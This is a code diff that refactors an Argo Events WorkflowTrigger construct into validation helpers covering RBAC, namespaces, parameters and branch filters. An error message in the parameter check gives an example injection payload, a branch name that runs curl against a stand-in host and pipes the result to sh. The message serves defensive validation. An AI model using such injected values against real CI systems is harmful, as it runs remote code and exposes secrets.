@@ -136,151 +136,39 @@ export class WorkflowTrigger extends Construct {
       props = snapshotProps('WorkflowTrigger', props);
       if (!props) fail(at('props'), props, 'are required', 'pass { eventSource, template }');
       checkKnownKeys(at(''), props, PROPS);
-      const source = props.eventSource;
-      if (!hasBrand(source, 'EventSource')) {
-        fail(at('eventSource'), typeof source, 'must be a WebhookEventSource, or one from WebhookEventSource.fromEventSourceName', 'pass the event source construct');
-      }
+      const source = checkSource(props);
       this.platform = resolvePlatform(at('platform'), props.platform, this, { platform: source.platform, from: 'eventSource' });
-      const submitFrom = checkBoolean(at('submitFrom'), props.submitFrom ?? false);
-      if (submitFrom && !this.platform.spec.argoEvents.submitFrom) {
-        fail(at('submitFrom'), true,
-          `is not available on platform ${this.platform.id} (${this.platform.spec.argoEvents.release} has no submit-from operation)`,
-          'leave submitFrom off: a workflowTemplateRef Workflow runs the same template on every release');
-      }
-      if (submitFrom && props.parameters && Object.keys(props.parameters).length > 0) {
-        fail(at('submitFrom'), true, 'cannot pass event fields as workflow parameters (parameters is set)',
-          'leave submitFrom off to map parameters, or drop parameters');
-      }
+      const submitFrom = checkSubmitFrom(props, this.platform);
       const eventName = props.eventName ?? source.eventNames[0];
       if (!source.eventNames.includes(eventName)) {
         fail(at('eventName'), eventName,
           `is not an event of EventSource "${source.name}" (it emits ${source.eventNames.map((e) => `"${e}"`).join(', ')})`, 'use one of those names');
       }
-
-      const template = props.template;
-      if (!hasBrand(template, 'WorkflowTemplate')) {
-        fail(at('template'), template, 'must be a ProfileWorkflowTemplate, or one from ProfileWorkflowTemplate.fromWorkflowTemplateName',
-          'pass the template construct, or import one made elsewhere by name');
-      }
+      const template = checkTemplate(props);
       this.templateName = template.name;
-      this.targetNamespace = checkNamespace(at('namespace'), props.namespace ?? template.namespace);
-      if (this.targetNamespace !== template.namespace) {
-        fail(at('namespace'), this.targetNamespace,
-          `does not hold the template "${template.name}", which is in "${template.namespace}" (a workflowTemplateRef only finds templates in the Workflow's own namespace)`,
-          'leave namespace out, or pass the template of that namespace');
-      }
+      this.targetNamespace = template.namespace;
+      const serviceAccountName = props.rbac === undefined ? 'operate-workflow-sa' : checkRbac(props.rbac, source.namespace, submitFrom);
+      const params = checkParameters(props, template);
+      const push = checkBranches(props, source);
 
-      const sensorNamespace = source.namespace;
-      let serviceAccountName = 'operate-workflow-sa';
-      if (props.rbac !== undefined) {
-        if (!ArgoEventsRbac.isArgoEventsRbac(props.rbac)) {
-          fail(at('rbac'), typeof props.rbac, 'must be an ArgoEventsRbac construct', 'pass the ArgoEventsRbac instance');
-        }
-        if (props.rbac.namespace !== sensorNamespace) {
-          fail(at('rbac'), props.rbac.namespace,
-            `puts the ServiceAccount in "${props.rbac.namespace}" but the Sensor runs in "${sensorNamespace}" (a pod can only use a ServiceAccount of its own namespace)`,
-            'put ArgoEventsRbac in the event source namespace');
-        }
-        const needed = workflowVerbs([submitFrom ? 'submit-from' : 'submit']);
-        const granted = workflowVerbs(props.rbac.operations);
-        if (!needed.every((v) => granted.includes(v))) {
-          fail(at('rbac'), props.rbac.operations,
-            `does not grant the verbs ${submitFrom ? 'submit-from' : 'submit'} needs on workflows (${needed.join(', ')})`,
-            `add "${submitFrom ? 'submit-from' : 'submit'}" to ArgoEventsRbac operations`);
-        }
-        serviceAccountName = props.rbac.serviceAccountName;
-      }
-
-      const params = props.parameters ?? {};
-      if (params === null || typeof params !== 'object' || Array.isArray(params)) {
-        fail(at('parameters'), params, 'must be an object of parameter name to EventField', 'pass e.g. { revision: EventField.revision() }');
-      }
-      const paramNames = Object.keys(params).sort();
-      for (const p of paramNames) {
-        if (template.parameterNames && !template.parameterNames.includes(p)) {
-          fail(at(`parameters.${p}`), p,
-            `is not a parameter of WorkflowTemplate "${template.name}" (it declares ${template.parameterNames.map((n) => `"${n}"`).join(', ') || 'none'})`,
-            'declare it in the template\'s arguments.parameters or map one of the declared names');
-        }
-        if (!EventField.isEventField(params[p])) {
-          fail(at(`parameters.${p}`), params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
-        }
-      }
-      const allowShell = checkBoolean(at('allowShellInterpolation'), props.allowShellInterpolation ?? false);
-      const sink = allowShell ? undefined : template.shellSinks(paramNames)[0];
-      if (sink) {
-        fail(at(`parameters.${sink.parameter}`), params[sink.parameter].description,
-          `would be read as more than data: WorkflowTemplate "${template.name}" puts it into ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (a branch named x";curl\${IFS}evil|sh;", an option like --upload-pack=…, a $(SECRET) reference) runs commands or leaks secrets as the workflow's service account`,
-          'pass it only as an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script), listed before any env entry valueFrom a Secret; or set allowShellInterpolation: true if the event source is trusted');
-      }
-      const branches = props.branches === undefined ? undefined : checkList(at('branches'), props.branches, checkBranch);
-      const push = (PROVIDERS[source.type] as WebhookProvider | undefined)?.push;
-      if (branches && !push) {
-        fail(at('branches'), branches, `needs a ${PUSH_SOURCE_TYPES.join(' or ')} source (a ${source.type === 'webhook' ? 'generic webhook' : `${source.type} source`} has no push ref)`, 'remove branches');
-      }
-
-      const defaultName = `${source.name}-${template.name}`;
-      this.name = checkDnsLabel(at('name'), props.name ?? defaultName);
+      this.name = checkDnsLabel(at('name'), props.name ?? `${source.name}-${template.name}`);
       this.dependencyName = `${source.name}-${eventName}`;
-
-      const parameters: TriggerParameter[] = paramNames.map((p, i) => ({
+      const parameters: TriggerParameter[] = Object.keys(params).map((p, i) => ({
         src: { dependencyName: this.dependencyName, ...resolveField(params[p], source, p) },
         dest: `spec.arguments.parameters.${i}.value`,
       }));
-
       this.sensor = new SensorObject(this, 'Resource', {
-        metadata: { name: this.name, namespace: sensorNamespace },
+        metadata: { name: this.name, namespace: source.namespace },
         spec: {
           template: {
             serviceAccountName,
             ...(source.eventBus ? { metadata: { annotations: { ...source.eventBus.clientPodAnnotations } } } : {}),
           },
-          dependencies: [{
-            name: this.dependencyName,
-            eventSourceName: source.name,
-            eventName,
-            // Argo Events matches string data filters as regular expressions: anchor and escape,
-            // or "main" would also match "refs/heads/main-old". A branch deletion is a push too
-            // (GitHub and GitLab send `after` as forty zeros): the second filter, ANDed, needs a
-            // commit in `after` (Go regexp has no look-ahead, so: any non-zero hex digit).
-            ...(branches ? {
-              filters: {
-                data: [
-                  { path: push!.ref, type: 'string', value: branches.map((b) => `^refs/heads/${escapeRegExp(b)}$`) },
-                  { path: push!.after, type: 'string', value: ['[1-9a-f]'] },
-                ],
-              },
-            } : {}),
-          }],
+          dependencies: [{ name: this.dependencyName, eventSourceName: source.name, eventName, ...(push ? { filters: branchFilters(push) } : {}) }],
           triggers: [{
             template: {
               name: `submit-${template.name}`,
-              argoWorkflow: submitFrom
-                ? {
-                  operation: 'submit-from',
-                  source: {
-                    resource: {
-                      apiVersion: 'argoproj.io/v1alpha1',
-                      kind: 'WorkflowTemplate',
-                      metadata: { name: template.name, namespace: this.targetNamespace },
-                    },
-                  },
-                }
-                : {
-                  operation: 'submit',
-                  source: {
-                    resource: {
-                      apiVersion: 'argoproj.io/v1alpha1',
-                      kind: 'Workflow',
-                      metadata: { generateName: `${template.name}-`, namespace: this.targetNamespace },
-                      spec: {
-                        workflowTemplateRef: { name: template.name },
-                        ...(paramNames.length ? { arguments: { parameters: paramNames.map((name) => ({ name, value: '' })) } } : {}),
-                      },
-                    },
-                  },
-                  parameters,
-                },
+              argoWorkflow: submitFrom ? submitFromTemplate(template) : submitWorkflow(template, Object.keys(params), parameters),
             },
           }],
         },
@@ -294,6 +182,143 @@ export class WorkflowTrigger extends Construct {
       throw e;
     }
   }
+}
+
+function checkSource(props: WorkflowTriggerProps): IEventSource {
+  const source = props.eventSource;
+  if (!hasBrand(source, 'EventSource')) {
+    fail(at('eventSource'), typeof source, 'must be a WebhookEventSource, or one from WebhookEventSource.fromEventSourceName', 'pass the event source construct');
+  }
+  return source;
+}
+
+function checkSubmitFrom(props: WorkflowTriggerProps, platform: Platform): boolean {
+  const submitFrom = checkBoolean(at('submitFrom'), props.submitFrom ?? false);
+  if (submitFrom && !platform.spec.argoEvents.submitFrom) {
+    fail(at('submitFrom'), true,
+      `is not available on platform ${platform.id} (${platform.spec.argoEvents.release} has no submit-from operation)`,
+      'leave submitFrom off: a workflowTemplateRef Workflow runs the same template on every release');
+  }
+  if (submitFrom && props.parameters && Object.keys(props.parameters).length > 0) {
+    fail(at('submitFrom'), true, 'cannot pass event fields as workflow parameters (parameters is set)',
+      'leave submitFrom off to map parameters, or drop parameters');
+  }
+  return submitFrom;
+}
+
+/** The template, which must live in the namespace the Workflow goes to (`namespace`, when given). */
+function checkTemplate(props: WorkflowTriggerProps): IWorkflowTemplate {
+  const template = props.template;
+  if (!hasBrand(template, 'WorkflowTemplate')) {
+    fail(at('template'), template, 'must be a ProfileWorkflowTemplate, or one from ProfileWorkflowTemplate.fromWorkflowTemplateName',
+      'pass the template construct, or import one made elsewhere by name');
+  }
+  const namespace = checkNamespace(at('namespace'), props.namespace ?? template.namespace);
+  if (namespace !== template.namespace) {
+    fail(at('namespace'), namespace,
+      `does not hold the template "${template.name}", which is in "${template.namespace}" (a workflowTemplateRef only finds templates in the Workflow's own namespace)`,
+      'leave namespace out, or pass the template of that namespace');
+  }
+  return template;
+}
+
+/** The Sensor's ServiceAccount from `rbac`, which must live beside the Sensor and grant what the operation needs. */
+function checkRbac(rbac: unknown, sensorNamespace: string, submitFrom: boolean): string {
+  if (!ArgoEventsRbac.isArgoEventsRbac(rbac)) {
+    fail(at('rbac'), typeof rbac, 'must be an ArgoEventsRbac construct', 'pass the ArgoEventsRbac instance');
+  }
+  if (rbac.namespace !== sensorNamespace) {
+    fail(at('rbac'), rbac.namespace,
+      `puts the ServiceAccount in "${rbac.namespace}" but the Sensor runs in "${sensorNamespace}" (a pod can only use a ServiceAccount of its own namespace)`,
+      'put ArgoEventsRbac in the event source namespace');
+  }
+  const operation = submitFrom ? 'submit-from' : 'submit';
+  const needed = workflowVerbs([operation]);
+  const granted = workflowVerbs(rbac.operations);
+  if (!needed.every((v) => granted.includes(v))) {
+    fail(at('rbac'), rbac.operations, `does not grant the verbs ${operation} needs on workflows (${needed.join(', ')})`, `add "${operation}" to ArgoEventsRbac operations`);
+  }
+  return rbac.serviceAccountName;
+}
+
+/** The parameters, sorted by name: each an EventField for a parameter the template declares, none reaching a shell. */
+function checkParameters(props: WorkflowTriggerProps, template: IWorkflowTemplate): Record<string, EventField> {
+  const params = props.parameters ?? {};
+  if (params === null || typeof params !== 'object' || Array.isArray(params)) {
+    fail(at('parameters'), params, 'must be an object of parameter name to EventField', 'pass e.g. { revision: EventField.revision() }');
+  }
+  const paramNames = Object.keys(params).sort();
+  for (const p of paramNames) {
+    if (template.parameterNames && !template.parameterNames.includes(p)) {
+      fail(at(`parameters.${p}`), p,
+        `is not a parameter of WorkflowTemplate "${template.name}" (it declares ${template.parameterNames.map((n) => `"${n}"`).join(', ') || 'none'})`,
+        'declare it in the template\'s arguments.parameters or map one of the declared names');
+    }
+    if (!EventField.isEventField(params[p])) {
+      fail(at(`parameters.${p}`), params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
+    }
+  }
+  const allowShell = checkBoolean(at('allowShellInterpolation'), props.allowShellInterpolation ?? false);
+  const sink = allowShell ? undefined : template.shellSinks(paramNames)[0];
+  if (sink) {
+    fail(at(`parameters.${sink.parameter}`), params[sink.parameter].description,
+      `would be read as more than data: WorkflowTemplate "${template.name}" puts it into ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (a branch named x";curl\${IFS}evil|sh;", an option like --upload-pack=…, a $(SECRET) reference) runs commands or leaks secrets as the workflow's service account`,
+      'pass it only as an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script), listed before any env entry valueFrom a Secret; or set allowShellInterpolation: true if the event source is trusted');
+  }
+  return Object.fromEntries(paramNames.map((p) => [p, params[p]]));
+}
+
+/** The branches with the push fields of the source's provider, or undefined without `branches`. */
+function checkBranches(props: WorkflowTriggerProps, source: IEventSource): { branches: string[]; ref: string; after: string } | undefined {
+  if (props.branches === undefined) return undefined;
+  const branches = checkList(at('branches'), props.branches, checkBranch);
+  const push = (PROVIDERS[source.type] as WebhookProvider | undefined)?.push;
+  if (!push) {
+    fail(at('branches'), branches, `needs a ${PUSH_SOURCE_TYPES.join(' or ')} source (a ${source.type === 'webhook' ? 'generic webhook' : `${source.type} source`} has no push ref)`, 'remove branches');
+  }
+  return { branches, ref: push.ref, after: push.after };
+}
+
+/**
+ * Argo Events matches string data filters as regular expressions: anchor and escape, or "main"
+ * would also match "refs/heads/main-old". A branch deletion is a push too (GitHub and GitLab send
+ * `after` as forty zeros): the second filter, ANDed, needs a commit in `after` (Go regexp has no
+ * look-ahead, so: any non-zero hex digit).
+ */
+function branchFilters(push: { branches: string[]; ref: string; after: string }) {
+  return {
+    data: [
+      { path: push.ref, type: 'string', value: push.branches.map((b) => `^refs/heads/${escapeRegExp(b)}$`) },
+      { path: push.after, type: 'string', value: ['[1-9a-f]'] },
+    ],
+  };
+}
+
+/** `submit-from` (Argo Events v1.8+): the template itself as the source, no parameters. */
+function submitFromTemplate(template: IWorkflowTemplate) {
+  return {
+    operation: 'submit-from',
+    source: { resource: { apiVersion: 'argoproj.io/v1alpha1', kind: 'WorkflowTemplate', metadata: { name: template.name, namespace: template.namespace } } },
+  };
+}
+
+/** `submit`: a Workflow that references the template, its parameters filled from the event. */
+function submitWorkflow(template: IWorkflowTemplate, paramNames: readonly string[], parameters: TriggerParameter[]) {
+  return {
+    operation: 'submit',
+    source: {
+      resource: {
+        apiVersion: 'argoproj.io/v1alpha1',
+        kind: 'Workflow',
+        metadata: { generateName: `${template.name}-`, namespace: template.namespace },
+        spec: {
+          workflowTemplateRef: { name: template.name },
+          ...(paramNames.length ? { arguments: { parameters: paramNames.map((name) => ({ name, value: '' })) } } : {}),
+        },
+      },
+    },
+    parameters,
+  };
 }
 
 function resolveField(field: EventField, source: IEventSource, param: string) {
